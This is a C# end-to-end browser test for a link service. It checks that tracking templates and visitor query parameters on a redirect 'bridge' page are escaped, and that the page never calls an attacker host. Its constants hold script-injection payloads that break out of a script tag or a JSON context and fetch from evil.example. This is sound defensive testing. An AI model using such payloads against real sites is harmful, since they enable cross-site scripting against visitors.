using System.Text.Json.Nodes;
using Gharart.EndToEnd.Tests.Browser;
using Gharart.TestKit;

namespace Gharart.EndToEnd.Tests.BridgePages;

/// <summary>GTM_EVENT templates from the API to what a browser makes of the BRIDGE page.</summary>
public sealed class BridgeEventBrowserTests(StandaloneFixture fixture) : IClassFixture<StandaloneFixture>
{
    private const string Agent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36";
    private const string Attack = "</script><script>fetch('https://evil.example/template')</script><!--\u2028\u2029'\"\\ 😀 &quot;";
    private const string VisitorsAttack = "\"}]});fetch('https://evil.example/visitor')//</script>";

    [Fact]
    public async Task Chromium_PushesTheEvents_AsksOneHostMore_AndWaitsForNobody()
    {
        await fixture.Api.PostAsync("handles/gharart/tracking-templates", new
        {
            templateKey = "seen",
            kind = "GTM_EVENT",
            containerId = "GTM-SEEN1",
            eventName = "arrival",
            appliesTo = new { slugs = new[] { "seen-page" } },
            @params = new { hostile = Attack, source = "{source}", campaign = "<{campaign}>", where = "{handle}/{slug}", device = "{device}", variant = "{variant}" },
        });
        await fixture.Api.PostAsync("handles/gharart/tracking-templates", new
        {
            templateKey = "hung",
            kind = "GTM_EVENT",
            containerId = "GTM-HUNG1",
            appliesTo = new { slugs = new[] { "hung-page" } },
        });
        foreach (var name in new[] { "seen", "hung" })
        {
            var link = new { destinationUrl = $"http://shop.gharart.example/arrived?case={name}", trackingPolicy = new { mode = "BRIDGE" }, forwardQuery = false };
            await fixture.Api.PutAsync($"handles/gharart/links/{name}-page", link);
        }

        await fixture.PublishedAsync();
        var edge = $"http://gharart.localhost:{new Uri(fixture.Host.EdgeUrl).Port}";
        await using var hosts = await StandInHosts.StartAsync();
        hosts.Next = $"{edge}/hung-page";
        var query = $"utm_source={Uri.EscapeDataString(VisitorsAttack)}&utm_campaign=%7BclickId%7D%5C%22";
        await using (var browser = new Chromium($"{edge}/seen-page?{query}", hosts.ResolverRules, $"--user-agent={Agent}", "--ignore-certificate-errors", "--disable-features=HttpsUpgrades"))
        {
            await Eventually.HoldsAsync(
                "the browser has gone where both links lead", () => hosts.HungAtArrival is not null, TimeSpan.FromSeconds(90), () => string.Join("; ", hosts.Asked));
        }

        Assert.True(hosts.HungAtArrival, "The visitor waited for the script's host.");
        Assert.True(hosts.DataLayer.IsCompletedSuccessfully, string.Join("; ", hosts.Asked));
        var pushed = JsonNode.Parse(await hosts.DataLayer)!.AsArray();
        Assert.Equal(2, pushed.Count);
        Assert.Equal("gtm.js", (string?)pushed[0]!["event"]);
        Assert.True((long)pushed[0]!["gtm.start"]! > 0);
        var expected = new JsonObject
        {
            ["event"] = "arrival",
            ["hostile"] = Attack,
            ["source"] = VisitorsAttack,
            ["campaign"] = "<{clickid}\\\">",
            ["where"] = "gharart/seen-page",
            ["device"] = "DESKTOP",
        };
        Assert.True(JsonNode.DeepEquals(expected, pushed[1]), pushed[1]!.ToJsonString());

        Assert.DoesNotContain(hosts.Asked, asked => asked.Host.Contains("evil", StringComparison.Ordinal));
        var byThePage = hosts.Asked.Where(asked => asked.Referrer.StartsWith(edge, StringComparison.Ordinal)).ToList();
        Assert.Contains(byThePage, asked => asked.Target == "/gtm.js?id=GTM-SEEN1");
        Assert.Contains(byThePage, asked => asked.Target.StartsWith("/arrived?case=hung&ctx=", StringComparison.Ordinal));
        Assert.All(byThePage, asked => Assert.Contains(asked.Host, new[] { "www.googletagmanager.com", "shop.gharart.example" }));
        Assert.All(byThePage, asked => Assert.Equal(edge + "/", asked.Referrer));
    }
}
